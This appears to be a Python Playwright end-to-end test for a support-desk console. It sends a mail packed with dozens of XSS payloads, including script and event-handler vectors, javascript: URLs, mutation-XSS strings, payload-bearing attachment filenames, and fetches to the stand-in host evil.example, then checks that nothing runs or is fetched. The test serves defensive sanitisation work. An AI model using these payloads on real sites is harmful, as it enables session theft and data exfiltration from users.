"""Whatever a mail brings, nothing of it runs in the agent's browser and nothing is fetched from elsewhere."""

from __future__ import annotations

import asyncio
import smtplib
from email.message import EmailMessage

from playwright.async_api import Dialog, Request, expect

from tests.e2e.conftest import OpenDesk
from tests.integration.house import House

ACT = "top.xss=1;alert(1);fetch(`//evil.example/ran`)"
PAYLOADS = [
    f"<script>{ACT}</script>",
    f"<ScRiPt >{ACT}</ScRiPt>",
    f"<script/x>{ACT}</script>",
    f"<scr<script>ipt>{ACT}</scr</script>ipt>",
    f"<img src=x onerror={ACT}>",
    f"<img src=x onerror='{ACT}'>",
    f"<img/src=x/onerror={ACT}>",
    f"<svg onload={ACT}>",
    f"<svg><script>{ACT}</script></svg>",
    f"<svg><animate onbegin={ACT} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{ACT}'><text y=20>x</text></a></svg>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={ACT}>",
    f"<math><annotation-xml encoding='text/html'><img src=x onerror={ACT}></annotation-xml></math>",
    f"<iframe src='javascript:{ACT}'></iframe>",
    f"<iframe srcdoc='<script>{ACT}</script>'></iframe>",
    "<iframe src='//evil.example/frame'></iframe>",
    f"<object data='javascript:{ACT}'></object>",
    f"<embed src='javascript:{ACT}'>",
    f"<a href='javascript:{ACT}' autofocus>x</a>",
    f"<a href='java&#10;script:{ACT}'>x</a>",
    f"<a href=' &#14; javascript:{ACT}'>x</a>",
    f"<a href='data:text/html,<script>{ACT}</script>'>x</a>",
    f"<a href='vbscript:{ACT}'>x</a>",
    f"<body onload={ACT}>",
    f"<input autofocus onfocus={ACT}>",
    f"<select autofocus onfocus={ACT}></select>",
    f"<details open ontoggle={ACT}>x</details>",
    f"<video><source onerror={ACT}></video>",
    f"<audio src=x onerror={ACT}>",
    f"<marquee onstart={ACT}>x</marquee>",
    f"<div style='animation:x' onanimationstart={ACT}>x</div>",
    "<div style=\"background:url('//evil.example/style')\">x</div>",
    "<style>@import '//evil.example/css';*{background:url(//evil.example/css2)}</style>",
    "<link rel=stylesheet href='//evil.example/link'>",
    "<link rel=prefetch href='//evil.example/prefetch'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/meta'>",
    "<base href='//evil.example/'><img src=relative>",
    "<img src='//evil.example/pixel'><img srcset='//evil.example/set 2x'>",
    "<table background='//evil.example/table'><tr><td background='//evil.example/cell'>x</td></tr></table>",
    "<form action='//evil.example/form'><input name=x><button autofocus>go</button></form>",
    f'<noscript><p title="</noscript><img src=x onerror={ACT}>">',
    f"<!--><img src=x onerror={ACT}>-->",
    f"<![CDATA[><img src=x onerror={ACT}>]]>",
    f"<template><img src=x onerror={ACT}></template>",
    f"<p title='&quot;><img src=x onerror={ACT}>'>x</p>",
    f"</textarea><img src=x onerror={ACT}>",
    f"</title><img src=x onerror={ACT}>",
    f"\"'><img src=x onerror={ACT}>",
    f"{{{{constructor.constructor('{ACT}')()}}}}",
    f"javascript:{ACT}",
]
SVG = f"<svg xmlns='http://www.w3.org/2000/svg' onload='{ACT}'><script>{ACT}</script></svg>"
PAGE = f"<html><body><script>{ACT}</script></body></html>"
NAME = f'"><img src=x onerror={ACT}>'


def send(house: House) -> None:
    mail = EmailMessage()
    mail["From"] = f"{NAME.replace(chr(34), '')} <eve@evil.example>".replace("<img", "'img", 1)
    mail["To"] = "support@example.com"
    mail["Subject"] = NAME
    mail.set_content("\n".join(PAYLOADS))
    mail.add_alternative("<hr>".join(f"<div>{one}</div>" for one in PAYLOADS) + "<p id=end>the end</p>", subtype="html")
    for kind, text in (("svg+xml", SVG), ("xhtml+xml", PAGE)):
        mail.add_attachment(text.encode(), maintype="image", subtype=kind, filename=f"<img src=x onerror={ACT}>.svg")
    mail.add_attachment(PAGE, subtype="html", filename="page.html")
    host, port = house.addresses["smtp"].rsplit(":", 1)
    with smtplib.SMTP(host, int(port), timeout=20) as client:
        client.send_message(mail, "eve@evil.example", ["support@example.com"])


async def test_nothing_of_a_hostile_mail_runs_or_is_fetched(house: House, open_desk: OpenDesk) -> None:
    ann = await open_desk("ann")
    dialogs: list[str] = []
    foreign: list[str] = []

    async def dialog(one: Dialog) -> None:
        dialogs.append(one.message)
        await one.dismiss()

    def request(one: Request) -> None:
        if not one.url.startswith((house.url, "data:", "blob:", house.url.replace("http", "ws"))):
            foreign.append(one.url)

    ann.page.on("dialog", dialog)
    ann.page.context.on("request", request)
    await ann.ready()
    await asyncio.to_thread(send, house)
    offer = ann["offer-card"]
    await expect(offer).to_contain_text("onerror=")
    ident = await ann.accept("onerror=")
    await expect(ann.mail_frame().locator("body")).to_contain_text("the end")
    for inside in ("script", "iframe", "object", "embed", "form", "link", "meta[http-equiv=refresh]", "base"):
        await expect(ann.mail_frame().locator(inside)).to_have_count(0)
    await ann["mail-plain"].click()
    await expect(ann["message"]).to_contain_text("constructor.constructor")
    await ann["composer-text"].fill(PAYLOADS[4])
    await ann["composer-send"].click()
    await expect(ann["message"]).to_have_count(2)

    (message,) = [one for one in (await ann.get(f"/interactions/{ident}/messages"))["items"] if one["attachments"]]
    assert len(message["attachments"]) == 3
    for file in message["attachments"]:
        # It is saved: the page that asked for it stays where it is.
        async with ann.page.expect_download() as saving:
            await ann.page.evaluate("url => { location.href = url }", file["url"])
        assert "/" not in (await saving.value).suggested_filename
    assert ann.page.url.startswith(f"{house.url}/console")
    frames = [frame for frame in ann.page.frames if frame.url.startswith(house.url) or frame is ann.page.main_frame]
    assert not [frame.url for frame in frames if await frame.evaluate("'xss' in window")]
    assert dialogs == []
    assert foreign == []
